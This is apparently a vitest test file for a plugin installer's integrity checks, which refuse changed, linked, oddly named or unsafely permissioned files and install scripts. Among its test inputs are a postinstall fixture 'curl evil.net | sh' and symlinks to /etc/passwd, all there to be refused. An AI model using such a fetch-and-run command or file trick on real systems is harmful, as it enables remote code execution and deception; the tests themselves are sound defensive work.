import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BinnacleError } from '@binnacle/protocol';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { count } from '../../../../../test/support/count.ts';
import {
  checkInstall,
  consentedIn,
  copyInstall,
  type InstallRecord,
  InstallRecordShape,
  recordInstall,
} from './install-record.ts';
import { MANIFEST_FILE, readManifest, readManifestIn } from './manifest.ts';

const MANIFEST = {
  id: 'probe',
  version: '1.0.0',
  entry: 'dist/index.js',
  permissions: { notify: { reason: 'To tell you.' } },
};
const isRoot = process.getuid?.() === 0;
const ofOthers = (title: string): string =>
  isRoot ? title : `${title} (not tried: only root can give files to others)`;

let base = '';
let dir = '';
beforeEach(() => {
  base = mkdtempSync(join(tmpdir(), 'binnacle-install-'));
  dir = join(base, 'probe');
  mkdirSync(join(dir, 'dist'), { recursive: true, mode: 0o755 });
  write(MANIFEST_FILE, JSON.stringify(MANIFEST));
  write('dist/index.js', 'export default () => {};\n');
  write('dist/more.js', 'export const more = 1;\n');
  write('package.json', '{"name": "probe", "scripts": {"build": "tsc"}}');
});
afterEach(() => rmSync(base, { recursive: true, force: true }));

const at = (path: string): string => join(dir, path);
function write(path: string, text: string): void {
  writeFileSync(at(path), text);
  // Whatever the umask of who runs this.
  chmodSync(at(path), 0o644);
}
const install = async (): Promise<InstallRecord> => (await recordInstall(dir, await readManifestIn(dir), 1)).record;
async function refusal(act: Promise<unknown>): Promise<{ code: string; message: string }> {
  try {
    await act;
  } catch (error) {
    if (error instanceof BinnacleError) return { code: error.code, message: error.message };
    throw error;
  }
  return { code: 'taken', message: '' };
}

describe('a record of what was installed', () => {
  it('is the same again and after a way through JSON, and lets what has not changed load', async () => {
    const record = await install();
    expect(record).toMatchObject({ id: 'probe', version: '1.0.0', consented: { notify: true }, installedAt: 1 });
    expect(record.files.map(({ path }) => path)).toEqual([
      '',
      MANIFEST_FILE,
      'dist/',
      'dist/index.js',
      'dist/more.js',
      'package.json',
    ]);
    expect((await install()).hash).toBe(record.hash);
    const stored = InstallRecordShape.parse(JSON.parse(JSON.stringify(record)));
    expect(await checkInstall(stored, dir)).toMatchObject({ dir, manifest: { id: 'probe' } });
    expect(consentedIn(stored).get('notify')).toEqual({ kind: 'all' });
  });

  it.each<[string, string, () => void]>([
    ['a changed file', 'changed dist/more.js', () => write('dist/more.js', 'export const more = 2;\n')],
    ['a byte behind the end', 'changed dist/index.js', () => write('dist/index.js', 'export default () => {};\n\n')],
    ['an emptied file', 'changed dist/index.js', () => write('dist/index.js', '')],
    [
      'a changed manifest',
      `changed ${MANIFEST_FILE}`,
      () => write(MANIFEST_FILE, JSON.stringify({ ...MANIFEST, entry: 'dist/more.js' })),
    ],
    ['an added file', 'added dist/evil.js', () => write('dist/evil.js', '')],
    ['an added hidden file', 'added .npmrc', () => write('.npmrc', '')],
    ['an added folder', 'added node_modules/', () => mkdirSync(at('node_modules'), { mode: 0o755 })],
    ['a removed file', 'removed dist/more.js', () => unlinkSync(at('dist/more.js'))],
    [
      'two files that changed places',
      'changed dist/index.js',
      () => {
        renameSync(at('dist/index.js'), at('x'));
        renameSync(at('dist/more.js'), at('dist/index.js'));
        renameSync(at('x'), at('dist/more.js'));
      },
    ],
    ['another mode of a file', 'mode of dist/index.js', () => chmodSync(at('dist/index.js'), 0o755)],
    ['another mode of a folder', 'mode of dist/', () => chmodSync(at('dist'), 0o700)],
    ['another mode of the folder itself', 'mode of the folder', () => chmodSync(dir, 0o700)],
    [
      'a file in the place of a folder',
      'removed dist/',
      () => {
        rmSync(at('dist'), { recursive: true });
        write('dist', '');
      },
    ],
    ['a renamed file', 'added dist/MORE.js', () => renameSync(at('dist/more.js'), at('dist/MORE.js'))],
  ])('refuses %s and names it', async (_, named, change) => {
    const record = await install();
    change();
    const { code, message } = await refusal(checkInstall(record, dir));
    expect([code, message]).toEqual(['plugin_changed', expect.stringContaining(named)]);
  });

  it('refuses a record that was changed itself', async () => {
    const record = await install();
    write('dist/index.js', 'evil');
    const { hash: _, ...now } = await install();
    expect((await refusal(checkInstall({ ...now, hash: record.hash }, dir))).code).toBe('plugin_changed');
    expect((await refusal(checkInstall({ ...record, files: now.files }, dir))).code).toBe('plugin_changed');
    const again = await install();
    const files = again.files.filter(({ path }) => path !== 'dist/more.js');
    expect((await refusal(checkInstall({ ...again, files }, dir))).code).toBe('plugin_changed');
  });

  it('names some of a thousand changes, and how many more there are', async () => {
    const record = await install();
    for (let n = 0; n < 100; n += 1) write(`dist/f${n}.js`, '');
    const { message } = await refusal(checkInstall(record, dir));
    expect(message).toContain('and 80 more');
  });

  it.each<[string, () => void]>([
    ['a link to a file', () => symlinkSync('/etc/passwd', at('dist/passwd'))],
    ['a link inside of the folder', () => symlinkSync('index.js', at('dist/again.js'))],
    ['a link to a folder', () => symlinkSync('/etc', at('etc'))],
    ['a link that leads nowhere', () => symlinkSync('nowhere', at('dist/nowhere'))],
    [
      'a file that became a link to the same bytes',
      () => {
        writeFileSync(join(base, 'outside.js'), readFileSync(at('dist/index.js')));
        unlinkSync(at('dist/index.js'));
        symlinkSync(join(base, 'outside.js'), at('dist/index.js'));
      },
    ],
    [
      'a folder that became a link',
      () => {
        renameSync(at('dist'), join(base, 'outside'));
        symlinkSync(join(base, 'outside'), at('dist'));
      },
    ],
    [
      'a hard link',
      () => {
        writeFileSync(join(base, 'secret'), 's3cret', { mode: 0o644 });
        linkSync(join(base, 'secret'), at('dist/secret'));
      },
    ],
    ['a pipe', () => void execFileSync('mkfifo', [at('dist/pipe')])],
    ['a file that others can write', () => chmodSync(at('dist/index.js'), 0o666)],
    ['a folder that others can write', () => chmodSync(at('dist'), 0o777)],
    ['a sticky folder that others can write', () => chmodSync(at('dist'), 0o1777)],
    ['the folder itself, if others can write', () => chmodSync(dir, 0o1777)],
    ['a folder above, if others can write', () => chmodSync(base, 0o777)],
    ['a setuid file', () => chmodSync(at('dist/index.js'), 0o4755)],
    ['a name with a line feed', () => write('dist/a\nb.js', '')],
    ['a name that runs backwards', () => write('dist/a\u202egnp.js', '')],
    ['a name with what is not seen', () => write('dist/index\u200b.js', '')],
    ['a folder with what is not seen', () => mkdirSync(at('dist\u3164'))],
    ['a name that is not UTF-8', () => void execFileSync('sh', ['-c', `: > "$1/$(printf 'a\\377b')"`, 'sh', dir])],
  ])('refuses %s, at the install and before a start', async (_, change) => {
    const manifest = await readManifestIn(dir);
    const record = await install();
    change();
    expect((await refusal(recordInstall(dir, manifest, 1))).code).toBe('unsafe_plugin');
    expect((await refusal(checkInstall(record, dir))).code).toBe('unsafe_plugin');
    expect((await refusal(copyInstall(record, dir, join(base, 'copy')))).code).toBe('unsafe_plugin');
  });

  it('tells of an odd name in letters that cannot hide anything', async () => {
    const manifest = await readManifestIn(dir);
    write('dist/a\u202egnp.js', '');
    expect((await refusal(recordInstall(dir, manifest, 1))).message).toMatch(
      /dist\/a\\u202egnp\.js" has an ambiguous name/,
    );
  });

  it.runIf(isRoot)(ofOthers('refuses what belongs to another user'), async () => {
    const record = await install();
    chownSync(at('dist/index.js'), 12_345, 12_345);
    expect((await refusal(checkInstall(record, dir))).message).toContain('belongs to user 12345');
    chownSync(at('dist/index.js'), 0, 0);
    chownSync(base, 12_345, 12_345);
    expect((await refusal(checkInstall(record, dir))).message).toContain('belongs to user 12345');
  });

  it.runIf(isRoot)(ofOthers('refuses what a group of several can write'), async () => {
    const manifest = await readManifestIn(dir);
    chownSync(at('dist/index.js'), 0, 12_345);
    chmodSync(at('dist/index.js'), 0o664);
    expect((await refusal(recordInstall(dir, manifest, 1))).code).toBe('unsafe_plugin');
  });

  it.runIf(isRoot)(
    ofOthers('takes what the group of one can write, as files are where each user has a group'),
    async () => {
      const manifest = await readManifestIn(dir);
      chmodSync(at('dist/index.js'), 0o664);
      chmodSync(at('dist'), 0o775);
      expect((await recordInstall(dir, manifest, 1)).dir).toBe(dir);
    },
  );

  it('refuses a folder that is a link, and one that is not there or no folder', async () => {
    const record = await install();
    symlinkSync(dir, join(base, 'link'));
    for (const path of ['link', 'nowhere', 'probe/package.json']) {
      expect([path, (await refusal(checkInstall(record, join(base, path)))).code]).toEqual([path, 'unsafe_plugin']);
    }
  });

  it('gives back the real path where a folder above is a link, so that the link is of no matter any more', async () => {
    const record = await install();
    symlinkSync(base, join(base, 'above'));
    expect((await checkInstall(record, join(base, 'above', 'probe'))).dir).toBe(dir);
  });

  it.each<[string, object]>([
    ['files', { maxFiles: 3 }],
    ['bytes of a file', { maxFileBytes: 10 }],
    ['bytes', { maxBytes: 60 }],
    ['depth', { maxDepth: 1 }],
  ])('has a bound of %s', async (_, bound) => {
    const { FILE_BOUNDS } = await import('./plugin-files.ts');
    const manifest = await readManifestIn(dir);
    expect((await refusal(recordInstall(dir, manifest, 1, { bounds: { ...FILE_BOUNDS, ...bound } }))).code).toBe(
      'unsafe_plugin',
    );
  });

  it.each<[string, string, string]>([
    ['postinstall', 'package.json', '{"scripts": {"postinstall": "curl evil.net | sh"}}'],
    ['preinstall', 'package.json', '{"scripts": {"preinstall": ""}}'],
    ['an install script of what it brings along', 'dist/package.json', '{"scripts": {"install": "node x"}}'],
    ['what is compiled', 'dist/binding.gyp', '{}'],
    ['a package that cannot be read', 'package.json', '{"scripts": '],
    ['a package that is none', 'package.json', '[1'],
  ])('refuses %s', async (_, path, text) => {
    const manifest = await readManifestIn(dir);
    write(path, text);
    expect((await refusal(recordInstall(dir, manifest, 1))).code).toBe('unsafe_plugin');
  });

  it('refuses an entry that is not there, and one that is a folder', async () => {
    for (const entry of ['dist/other.js', 'dir.js']) {
      mkdirSync(at('dir.js'), { recursive: true, mode: 0o755 });
      write(MANIFEST_FILE, JSON.stringify({ ...MANIFEST, entry }));
      expect((await refusal(recordInstall(dir, await readManifestIn(dir), 1))).code).toBe('bad_manifest');
    }
  });

  it('records what was agreed to, and not a manifest that took its place while a person read', async () => {
    const shown = await readManifestIn(dir);
    write(
      MANIFEST_FILE,
      JSON.stringify({ ...MANIFEST, permissions: { ...MANIFEST.permissions, net: { reason: 'x' } } }),
    );
    expect(await refusal(recordInstall(dir, shown, 1))).toEqual({
      code: 'consent_needed',
      message: expect.stringContaining('net'),
    });
    write(MANIFEST_FILE, JSON.stringify({ ...MANIFEST, id: 'other' }));
    expect((await refusal(recordInstall(dir, shown, 1))).code).toBe('consent_needed');
  });

  it('asks again where the record agrees to less than the manifest asks for', async () => {
    const record = await install();
    expect((await refusal(checkInstall({ ...record, consented: {} }, dir))).code).toBe('consent_needed');
    expect((await refusal(checkInstall({ ...record, consented: { notify: 'yes', bogus: true } }, dir))).code).toBe(
      'consent_needed',
    );
  });

  it('copies the bytes that it checked: what changes behind the check is not in the copy', async () => {
    const record = await install();
    const to = join(base, 'copy');
    const { dir: copied, manifest } = await copyInstall(record, dir, to);
    write('dist/index.js', 'evil');
    expect(copied).toBe(to);
    expect(readFileSync(join(to, manifest.entry), 'utf8')).toBe('export default () => {};\n');
    expect(readManifest(readFileSync(join(to, MANIFEST_FILE))).id).toBe('probe');
    // Never into a folder that somebody else may have filled.
    expect(
      await refusal(
        copyInstall(record, dir, to).catch((error) =>
          Promise.reject(new BinnacleError('internal', { message: String(error) })),
        ),
      ),
    ).toMatchObject({ code: 'internal', message: expect.stringContaining('EEXIST') });
    expect((await refusal(copyInstall(record, dir, join(base, 'second')))).code).toBe('plugin_changed');
  });

  it('goes by the manifest that was hashed, whatever comes in its place while it looks', async () => {
    const record = await install();
    const good = readFileSync(at(MANIFEST_FILE), 'utf8');
    const evil = JSON.stringify({ ...MANIFEST, entry: 'dist/more.js' });
    let isOver = false;
    const swapping = (async () => {
      for (let n = 0; !isOver; n += 1) {
        const next = join(base, 'next.json');
        writeFileSync(next, n % 2 === 0 ? evil : good, { mode: 0o644 });
        renameSync(next, at(MANIFEST_FILE));
        for (let turns = n % 7; turns >= 0; turns -= 1) await new Promise(setImmediate);
      }
    })();
    const outcomes = new Set<string>();
    for (let n = 0; n < count({ quick: 20, all: 150 }); n += 1) {
      const result = await checkInstall(record, dir).catch((error: BinnacleError) => error.code);
      outcomes.add(typeof result === 'string' ? result : result.manifest.entry);
    }
    isOver = true;
    await swapping;
    outcomes.delete('unsafe_plugin');
    outcomes.delete('plugin_changed');
    expect([...outcomes].filter((entry) => entry !== MANIFEST.entry)).toEqual([]);
  });

  it('is not deceived by files that change places with links while they are read: it refuses, or has the bytes of before', async () => {
    const record = await install();
    writeFileSync(join(base, 'evil.js'), 'evil', { mode: 0o644 });
    const good = readFileSync(at('dist/index.js'), 'utf8');
    let isOver = false;
    const swapping = (async () => {
      for (let n = 0; !isOver; n += 1) {
        const next = join(base, `next${n}`);
        if (n % 4 === 0) symlinkSync(join(base, 'evil.js'), next);
        else writeFileSync(next, n % 4 === 2 ? 'evil' : good, { mode: 0o644 });
        renameSync(next, at('dist/index.js'));
        // Not in step with the reader.
        for (let turns = n % 7; turns >= 0; turns -= 1) await new Promise(setImmediate);
      }
    })();
    const others: string[] = [];
    for (let n = 0; n < count({ quick: 10, all: 60 }); n += 1) {
      const to = join(base, `copy${n}`);
      const { code } = await refusal(copyInstall(record, dir, to));
      if (code === 'taken') expect(readFileSync(join(to, 'dist/index.js'), 'utf8')).toBe(good);
      else if (code !== 'plugin_changed' && code !== 'unsafe_plugin') others.push(code);
    }
    isOver = true;
    await swapping;
    expect(others).toEqual([]);
  });
});
